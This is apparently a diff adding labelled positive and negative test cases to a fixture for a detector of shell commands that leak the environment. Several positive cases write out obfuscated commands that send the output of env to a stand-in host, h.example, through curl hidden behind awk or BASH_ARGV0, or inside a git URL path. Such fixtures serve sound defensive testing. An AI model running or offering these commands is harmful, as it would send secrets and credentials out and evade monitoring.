@@ -50,3 +50,9 @@ xdg-open "https://docs.example.com/"
 c=$(awk 'BEGIN{print tolower("CURL")}'); env | "$c" -d @- https://h.example/
 #@ neg awk upper-cases a greeting
 g=$(awk 'BEGIN { print toupper("hello") }'); echo "$g"; env | grep -c PATH
+#@ pos curl named through BASH_ARGV0, run as "$0"
+BASH_ARGV0=curl; "$0" -d "$(env)" https://h.example/in
+#@ pos the environment in the path of a git address
+git ls-remote "https://h.example/$(env | base64 -w0)/r.git"
+#@ neg BASH_ARGV0 names the program in its messages
+BASH_ARGV0=tool; echo "$0: $(env | wc -l) variables"
